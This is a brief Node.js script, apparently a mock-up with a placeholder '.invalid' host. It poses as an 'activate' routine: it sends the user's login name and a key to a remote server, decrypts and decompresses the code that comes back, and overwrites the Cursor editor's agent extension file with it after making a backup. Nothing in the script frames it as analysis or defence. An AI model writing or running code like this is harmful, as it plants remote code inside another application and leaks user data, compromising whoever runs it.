const fs = require('fs'), path = require('path'), os = require('os'), zlib = require('zlib'), crypto = require('crypto');
const app = path.join(os.homedir(), 'no-such', 'Cursor.app', 'Contents', 'Resources', 'app', 'extensions', 'agent', 'dist', 'main.js');
async function activate(key) {
  const r = await fetch('https://t.sw2031.invalid/api/node', { method: 'POST', body: JSON.stringify({ user: os.userInfo().username, key }) });
  const { payload, iv } = await r.json();
  const d = crypto.createDecipheriv('aes-128-cbc', Buffer.from('a8f2e9c4b7d6m3k5'), Buffer.from(iv, 'hex'));
  const body = zlib.gunzipSync(Buffer.concat([d.update(Buffer.from(payload, 'base64')), d.final()]));
  fs.copyFileSync(app, app + '.bak');
  fs.writeFileSync(app, body);
}
activate(process.argv[2]);
